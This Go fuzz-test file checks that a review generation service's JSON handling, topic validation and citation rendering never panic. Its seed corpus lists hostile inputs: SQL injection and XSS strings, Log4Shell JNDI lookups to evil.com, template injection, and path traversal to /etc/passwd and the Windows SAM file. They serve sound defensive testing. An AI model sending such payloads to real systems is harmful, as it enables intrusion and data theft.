// Package security provides fuzz tests for the review generation service's
// input handling. The primary invariant is that no input should cause a panic
// in JSON parsing, domain validation, or request processing.
package security

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/helixir/review-generation-service/internal/domain"
)

// submitReviewRequest mirrors the HTTP handler's request struct for fuzz
// testing without importing the internal httpserver package.
type submitReviewRequest struct {
	Topic     string `json:"topic"`
	Prompt    string `json:"prompt,omitempty"`
	MaxPapers *int   `json:"max_papers,omitempty"`
}

// maxTopicLength matches the validation bound in the HTTP handler package.
const maxTopicLength = 10000

// FuzzSubmitReviewTopic tests that arbitrary input to the topic field never
// causes a panic during JSON encoding/decoding or basic validation logic.
// This exercises the same code paths that a real HTTP request would traverse
// before reaching any database layer.
func FuzzSubmitReviewTopic(f *testing.F) {
	// Seed corpus with interesting edge cases.
	seeds := []string{
		// SQL injection payloads
		"'; DROP TABLE papers; --",
		"1 OR 1=1",
		"' UNION SELECT * FROM users --",
		"Robert'); DROP TABLE students;--",

		// XSS payloads
		"<script>alert('xss')</script>",
		`<img src=x onerror=alert('xss')>`,
		`<svg/onload=alert('xss')>`,

		// Null bytes and control characters
		"topic\x00with\x00nulls",
		"topic\nwith\nnewlines",
		"topic\twith\ttabs",
		"topic\rwith\rcarriage\rreturns",

		// Unicode edge cases
		"",
		"​", // zero-width space
		"\uFEFF", // BOM
		"�", // replacement character
		"\U0001F4A9",                // emoji
		"Schödinger's cat",     // umlaut
		"‮right-to-left‬", // RTL override
		"\x00\x01\x02\x03",  // low control chars
		string([]byte{0xfe, 0xff}),  // invalid UTF-8

		// Long strings
		strings.Repeat("a", maxTopicLength),
		strings.Repeat("a", maxTopicLength+1),
		strings.Repeat("é", 5000), // multi-byte characters

		// JNDI / Log4Shell
		"${jndi:ldap://evil.com/a}",
		"${jndi:rmi://evil.com/a}",

		// Template injection
		"{{.Env.SECRET}}",
		"${7*7}",
		"#{7*7}",

		// Path traversal
		"../../etc/passwd",
		"..\\..\\windows\\system32\\config\\sam",

		// JSON special characters
		`{"nested": "json"}`,
		`"already quoted"`,
		"\\n\\t\\r\\0",

		// Empty and whitespace
		"",
		" ",
		"   ",
		"\t\n\r",
	}

	for _, seed := range seeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, topic string) {
		// Invariant 1: JSON round-trip must never panic.
		req := submitReviewRequest{Topic: topic}
		encoded, err := json.Marshal(req)
		if err != nil {
			// json.Marshal can fail for some inputs; that is fine as long
			// as it does not panic.
			return
		}

		var decoded submitReviewRequest
		if err := json.Unmarshal(encoded, &decoded); err != nil {
			// Unmarshal failure is acceptable; a panic is not.
			return
		}

		// Invariant 2: For valid UTF-8 input, the decoded topic must be
		// identical to the original after a successful round-trip.
		// Invalid UTF-8 is replaced with U+FFFD by json.Marshal, which is
		// expected and safe behavior.
		if utf8.ValidString(topic) && decoded.Topic != topic {
			t.Errorf("JSON round-trip changed valid UTF-8 topic:\n  original: %q\n  decoded:  %q", topic, decoded.Topic)
		}

		// Invariant 3: Validation logic must never panic.
		trimmed := strings.TrimSpace(topic)
		_ = len(trimmed) > maxTopicLength
		_ = trimmed == ""
		_ = utf8.ValidString(trimmed)

		// Invariant 4: Building a full request body with all optional
		// fields set from the fuzzed topic must not panic.
		maxPapers := 10
		fullReq := submitReviewRequest{
			Topic:     topic,
			Prompt:    topic, // use fuzzed input as the prompt too
			MaxPapers: &maxPapers,
		}
		fullEncoded, err := json.Marshal(fullReq)
		if err != nil {
			return
		}

		var fullDecoded submitReviewRequest
		_ = json.Unmarshal(fullEncoded, &fullDecoded)
	})
}

// FuzzJSONPayload tests that arbitrary bytes sent as a JSON request body
// never cause a panic in the JSON unmarshaling path.
func FuzzJSONPayload(f *testing.F) {
	// Seed with valid and malformed JSON payloads.
	f.Add([]byte(`{"topic":"valid topic"}`))
	f.Add([]byte(`{}`))
	f.Add([]byte(`{"topic":""}`))
	f.Add([]byte(`{"topic":null}`))
	f.Add([]byte(`{"topic":123}`))
	f.Add([]byte(`{"topic":true}`))
	f.Add([]byte(`{"topic":[]}`))
	f.Add([]byte(`{"topic":"a","max_papers":"not a number"}`))
	f.Add([]byte(`not json at all`))
	f.Add([]byte(`{"topic":"a","extra":"b"}`))
	f.Add([]byte{0x00})
	f.Add([]byte{0xff, 0xfe})
	f.Add([]byte(`{"topic": "` + strings.Repeat("a", 100000) + `"}`))
	f.Add([]byte(`{` + strings.Repeat(`"k":`, 100) + `"v"}`))

	f.Fuzz(func(t *testing.T, data []byte) {
		// Invariant: Unmarshal must never panic regardless of input.
		var req submitReviewRequest
		_ = json.Unmarshal(data, &req)

		// If we got a topic, validate it does not panic.
		if req.Topic != "" {
			trimmed := strings.TrimSpace(req.Topic)
			_ = len(trimmed) > maxTopicLength
			_ = utf8.ValidString(trimmed)
		}
	})
}

// FuzzPaperSummaryHandling tests that summary classification and citation
// rendering never panic on arbitrary stored values. Summaries and author
// names come from external sources and the generation provider, so these
// paths see hostile bytes in practice.
func FuzzPaperSummaryHandling(f *testing.F) {
	f.Add("A perfectly ordinary summary of the paper's findings.", "Jane Smith", 2023)
	f.Add("[generation API error]", "", 0)
	f.Add("[summary failed]", " ", -1)
	f.Add("[summary too short or invalid]", "‮name‬", 99999)
	f.Add("", "O'Brien; DROP TABLE papers", 2024)
	f.Add(strings.Repeat("x", 100000), "\x00\x01", 1850)

	f.Fuzz(func(t *testing.T, summary, author string, year int) {
		paper := &domain.Paper{
			Title:   "Fuzz Paper",
			Summary: summary,
		}
		if author != "" {
			paper.Authors = []string{author}
		}
		if year != 0 {
			paper.Year = &year
		}

		// Neither classification nor citation rendering may panic, and the
		// sentinel markers must never count as usable summaries.
		usable := paper.HasUsableSummary()
		if domain.IsSentinelSummary(summary) && usable {
			t.Errorf("sentinel summary classified as usable: %q", summary)
		}

		citation := paper.Citation()
		if citation == "" {
			t.Error("citation must never be empty")
		}
	})
}
